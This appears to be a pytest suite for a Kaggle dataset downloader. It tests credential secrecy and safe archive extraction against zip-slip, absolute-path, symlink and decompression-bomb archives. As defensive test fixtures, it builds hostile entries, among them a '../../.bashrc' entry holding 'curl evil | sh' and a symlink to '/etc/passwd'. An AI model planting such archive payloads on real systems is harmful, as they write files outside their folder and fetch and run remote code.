"""Kaggle source: credentials checked first and never shown, archives extracted safely and resumably.

The real client is replaced by a fake ``kaggle`` module (it would print a banner and try the
network); the fake writes the archive the real one would, so the whole download -> prepare path runs.
"""

from __future__ import annotations

import io
import json
import logging
import os
import shutil
import sys
import tarfile
import types
import zipfile
from pathlib import Path

import pytest

from helpers.sources import pneumonia
from helpers.sources.run import prepare
from medlens.config import DatasetConfig
from medlens.data import kaggle as K
from medlens.data.download import download_dataset
from medlens.errors import ConfigError, DataError, MedlensError

SECRET = "0123456789abcdef-not-a-real-key"


@pytest.fixture
def no_credentials(monkeypatch, tmp_path):
    for var in ("KAGGLE_USERNAME", "KAGGLE_KEY", "KAGGLE_API_TOKEN"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("KAGGLE_CONFIG_DIR", str(tmp_path / "kaggle-config"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))


@pytest.fixture
def credentials(no_credentials, monkeypatch):
    monkeypatch.setenv("KAGGLE_USERNAME", "someone")
    monkeypatch.setenv("KAGGLE_KEY", SECRET)


class FakeApi:
    """Stands in for ``kaggle.api``: writes ``<dataset>.zip`` from a prepared archive, as the client does."""

    def __init__(self, archive: Path | None = None, error: BaseException | None = None):
        self.archive, self.error, self.calls = archive, error, []

    def authenticate(self):
        self.calls.append("authenticate")

    def dataset_download_files(self, slug, path=None, force=False, quiet=True, unzip=False, licenses=()):
        self.calls.append(("download", slug, unzip))
        if self.error:
            raise self.error
        shutil.copy(self.archive, Path(path) / (slug.split("/")[1] + ".zip"))


@pytest.fixture
def fake_kaggle(monkeypatch):
    def install(api: FakeApi) -> FakeApi:
        monkeypatch.setitem(sys.modules, "kaggle", types.SimpleNamespace(api=api))
        return api

    return install


def zip_folder(folder: Path, archive: Path) -> Path:
    with zipfile.ZipFile(archive, "w") as z:
        for path in sorted(folder.rglob("*")):
            z.write(path, path.relative_to(folder).as_posix())
    return archive


# ---------------------------------------------------------------------------------------------
# credentials


def test_missing_credentials_say_how_to_set_them(no_credentials, fake_kaggle, tmp_path):
    api = fake_kaggle(FakeApi())
    cfg = DatasetConfig(source="kaggle", adapter="chest_xray_pneumonia")
    with pytest.raises(ConfigError) as err:
        download_dataset(cfg, "pneu", tmp_path / "raw", tmp_path / "raw" / ".complete")
    message = str(err.value)
    assert "no Kaggle credentials found" in message and "kaggle.json" in message
    assert "KAGGLE_USERNAME and KAGGLE_KEY" in message and "https://www.kaggle.com/settings/api" in message
    assert api.calls == []  # the client is never reached
    assert not (tmp_path / "raw" / ".complete").exists()


def test_credentials_are_found_in_env_token_or_kaggle_json(no_credentials, monkeypatch, tmp_path):
    config_dir = tmp_path / "kaggle-config"
    config_dir.mkdir()
    (config_dir / "kaggle.json").write_text(json.dumps({"username": "someone", "key": SECRET}))
    assert K.find_credentials() == str(config_dir / "kaggle.json")
    monkeypatch.setenv("KAGGLE_API_TOKEN", SECRET)
    assert K.find_credentials() == "environment (KAGGLE_API_TOKEN)"
    monkeypatch.setenv("KAGGLE_USERNAME", "someone")
    monkeypatch.setenv("KAGGLE_KEY", SECRET)
    assert K.find_credentials() == "environment (KAGGLE_USERNAME/KAGGLE_KEY)"


def test_a_broken_kaggle_json_is_named_without_quoting_it(no_credentials, tmp_path):
    config_dir = tmp_path / "kaggle-config"
    config_dir.mkdir()
    (config_dir / "kaggle.json").write_text('{"username": "someone", "key": "' + SECRET)  # cut off
    with pytest.raises(ConfigError, match="kaggle.json is not readable JSON") as err:
        K.find_credentials()
    assert SECRET not in str(err.value)
    (config_dir / "kaggle.json").write_text(json.dumps({"username": "someone"}))
    with pytest.raises(ConfigError, match="lacks 'username' or 'key'"):
        K.find_credentials()


def test_credentials_never_reach_logs_output_or_marker(credentials, fake_kaggle, tmp_path, caplog, capsys):
    fixture = pneumonia.build(tmp_path / "kaggle-side")
    api = fake_kaggle(FakeApi(zip_folder(fixture.root, tmp_path / "archive.zip")))
    raw = tmp_path / "results" / "raw" / "pneu"
    with caplog.at_level(logging.DEBUG):
        download_dataset(
            DatasetConfig(source="kaggle", adapter="chest_xray_pneumonia"), "pneu", raw, raw / ".complete"
        )
    captured = capsys.readouterr()
    marker = (raw / ".complete").read_text()
    assert SECRET not in caplog.text + captured.out + captured.err + marker
    assert "KAGGLE_USERNAME/KAGGLE_KEY" in caplog.text  # where they came from is said, not what they are
    assert api.calls == ["authenticate", ("download", "paultimothymooney/chest-xray-pneumonia", False)]


# ---------------------------------------------------------------------------------------------
# download -> extract -> prepare


def test_download_extracts_deletes_the_archive_and_prepares(credentials, fake_kaggle, tmp_path):
    fixture = pneumonia.build(tmp_path / "kaggle-side")
    fake_kaggle(FakeApi(zip_folder(fixture.root, tmp_path / "archive.zip")))
    raw = tmp_path / "out" / "raw"  # where helpers.sources.run.prepare points raw_dir
    download_dataset(
        DatasetConfig(source="kaggle", slug="paultimothymooney/chest-xray-pneumonia"),
        "pneu",
        raw,
        raw / ".complete",
    )
    info = json.loads((raw / ".complete").read_text())
    assert info["slug"] == "paultimothymooney/chest-xray-pneumonia" and info["archives"] == [
        "chest-xray-pneumonia.zip"
    ]
    assert not list(
        (raw / K.DOWNLOAD_DIR).iterdir()
    )  # archive removed after its extraction was marked complete
    out = prepare(tmp_path, "pneu", {"source": "kaggle", "slug": "paultimothymooney/chest-xray-pneumonia"})
    assert set(out.rows) == set(fixture.expected)


def test_network_failure_names_the_slug(credentials, fake_kaggle, tmp_path):
    fake_kaggle(FakeApi(error=ConnectionError("Max retries exceeded with url: /v1/datasets")))
    with pytest.raises(
        MedlensError,
        match=r"datasets\.nih: downloading Kaggle dataset 'nih-chest-xrays/sample' "
        r"failed \(ConnectionError",
    ):
        K.download_kaggle(DatasetConfig(source="kaggle", adapter="nih_chest_xray_sample"), "nih", tmp_path)


def test_client_exit_on_rejected_credentials_becomes_a_config_error(credentials, fake_kaggle, tmp_path):
    api = fake_kaggle(FakeApi())
    api.authenticate = lambda: sys.exit(1)
    with pytest.raises(ConfigError, match="refused the credentials"):
        K.download_kaggle(DatasetConfig(source="kaggle", adapter="chest_xray_pneumonia"), "pneu", tmp_path)


def test_kaggle_source_without_adapter_or_slug_is_a_config_error(credentials, tmp_path):
    with pytest.raises(ConfigError, match=r"datasets\.x\.adapter: missing required key for source 'kaggle'"):
        K.download_kaggle(DatasetConfig(source="kaggle"), "x", tmp_path)
    with pytest.raises(ConfigError, match=r"datasets\.x\.slug: 'not a slug' is not a Kaggle dataset slug"):
        K.download_kaggle(DatasetConfig(source="kaggle", adapter="iu_xray", slug="not a slug"), "x", tmp_path)
    with pytest.raises(ConfigError, match=r"datasets\.x\.slug: missing required key"):
        K.download_kaggle(DatasetConfig(source="kaggle", adapter="mimic_cxr"), "x", tmp_path)


# ---------------------------------------------------------------------------------------------
# safe extraction


def test_zip_with_parent_entry_is_refused_before_anything_is_written(tmp_path):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("data/ok.txt", "fine")
        z.writestr("../escaped.txt", "owned")
    dest = tmp_path / "dest"
    with pytest.raises(
        DataError,
        match=r"evil\.zip: row \.\./escaped\.txt: archive entry '\.\./escaped\.txt' points "
        r"outside the extraction folder .*expected entries with relative paths",
    ):
        K.extract_archive(archive, dest)
    assert not (tmp_path / "escaped.txt").exists()
    assert list(dest.iterdir()) == []


@pytest.mark.parametrize("name", ["/etc/cron.d/x", "C:/Windows/x.txt", "a/../../x.txt", "a\\..\\..\\x.txt"])
def test_absolute_and_climbing_entries_are_refused(tmp_path, name):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr(zipfile.ZipInfo(name), "x")
    with pytest.raises(DataError, match="points outside the extraction folder"):
        K.extract_archive(archive, tmp_path / "dest")


@pytest.mark.parametrize("kind", ["zip", "tar.gz"])
def test_a_decompression_bomb_is_refused_before_anything_is_written(tmp_path, kind):
    archive = tmp_path / f"bomb.{kind}"
    zeros = b"\0" * (50 * 2**20)  # 50 MB of zeros pack into ~50 KB
    if kind == "zip":
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("a.png", zeros)
    else:
        with tarfile.open(archive, "w:gz") as t:
            info = tarfile.TarInfo("a.png")
            info.size = len(zeros)
            t.addfile(info, io.BytesIO(zeros))
    dest = tmp_path / "dest"
    with pytest.raises(
        DataError,
        match=rf"bomb\.{kind.replace('.', '[.]')}: the archive would expand [\d,]+ bytes into "
        r"52,428,800 \([\d,]+ times\); expected at most 100 times",
    ):
        K.extract_archive(archive, dest)
    assert list(dest.iterdir()) == []


def test_an_archive_larger_than_the_free_disk_is_refused(tmp_path, monkeypatch):
    archive = tmp_path / "big.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("a.png", os.urandom(4096))
    monkeypatch.setattr(
        K.shutil, "disk_usage", lambda path: types.SimpleNamespace(free=1000, total=1000, used=0)
    )
    with pytest.raises(
        DataError, match=r"big\.zip: the archive needs 4\.0 KiB but .*dest has 1,000 bytes free"
    ):
        K.extract_archive(archive, tmp_path / "dest")
    assert list((tmp_path / "dest").iterdir()) == []


def test_tar_with_parent_entry_is_refused(tmp_path):
    archive = tmp_path / "evil.tar.gz"
    with tarfile.open(archive, "w:gz") as t:
        info = tarfile.TarInfo("../escaped.txt")
        info.size = 5
        t.addfile(info, io.BytesIO(b"owned"))
    with pytest.raises(DataError, match="points outside the extraction folder"):
        K.extract_archive(archive, tmp_path / "dest")
    assert not (tmp_path / "escaped.txt").exists()


def test_link_entries_are_not_created(tmp_path):
    archive = tmp_path / "links.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("data/real.txt", "content")
        link = zipfile.ZipInfo("data/passwd")
        link.external_attr = 0o120777 << 16  # a symlink entry whose data is its target
        z.writestr(link, "/etc/passwd")
    result = K.extract_archive(archive, tmp_path / "dest")
    assert (result.files, result.skipped_links) == (1, 1)
    assert not os.path.lexists(tmp_path / "dest" / "data" / "passwd")


def test_no_file_is_written_through_a_link_that_leaves_the_target(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "data").symlink_to(outside)  # left by an earlier, unsafe tool
    archive = tmp_path / "a.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("data/x.txt", "x")
    with pytest.raises(DataError, match="outside the extraction folder"):
        K.extract_archive(archive, dest)
    assert list(outside.iterdir()) == []


def test_interrupted_extraction_resumes_and_is_marked_complete_only_at_the_end(tmp_path, monkeypatch):
    archive = tmp_path / "a.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for i in range(6):
            z.writestr(f"d/f{i}.bin", os.urandom(1000 + i))
    dest = tmp_path / "dest"
    copy = shutil.copyfileobj
    calls = {"n": 0}

    def dies_on_the_fourth(src, dst, length=0):
        calls["n"] += 1
        if calls["n"] == 4:
            raise OSError("No space left on device")
        copy(src, dst, length)

    monkeypatch.setattr(K.shutil, "copyfileobj", dies_on_the_fourth)
    with pytest.raises(DataError, match="corrupt or truncated"):
        K.extract_archive(archive, dest)
    marker = dest / ".extracted-a.zip.json"
    assert not marker.exists()
    assert sorted(p.name for p in (dest / "d").iterdir()) == [
        "f0.bin",
        "f1.bin",
        "f2.bin",
    ]  # no partial file left
    monkeypatch.setattr(K.shutil, "copyfileobj", copy)
    result = K.extract_archive(archive, dest)
    assert (result.files, result.resumed) == (6, 3) and marker.is_file()
    with zipfile.ZipFile(archive) as z:
        assert all((dest / n).read_bytes() == z.read(n) for n in z.namelist())
    assert K.extract_archive(archive, dest).resumed == 6  # a third run only reads the marker


def test_corrupt_archive_is_a_clear_error(tmp_path):
    archive = tmp_path / "broken.zip"
    archive.write_bytes(b"<html>Too many requests</html>")
    with pytest.raises(DataError, match=r"broken\.zip: not a readable zip or tar archive"):
        K.extract_archive(archive, tmp_path / "dest")


def test_a_downloaded_zip_with_a_parent_entry_fails_the_download_without_a_marker(
    credentials, fake_kaggle, tmp_path
):
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as z:
        z.writestr("chest_xray/train/NORMAL/IM-0001-0001.jpeg", b"x")
        z.writestr("../../.bashrc", b"curl evil | sh")
    fake_kaggle(FakeApi(evil))
    raw = tmp_path / "results" / "raw" / "pneu"
    with pytest.raises(DataError, match=r"chest-xray-pneumonia\.zip: row \.\./\.\./\.bashrc: archive entry"):
        download_dataset(
            DatasetConfig(source="kaggle", adapter="chest_xray_pneumonia"), "pneu", raw, raw / ".complete"
        )
    assert not (raw / ".complete").exists() and not (tmp_path / "results" / ".bashrc").exists()
    assert not (raw / "chest_xray").exists()  # nothing extracted from a refused archive
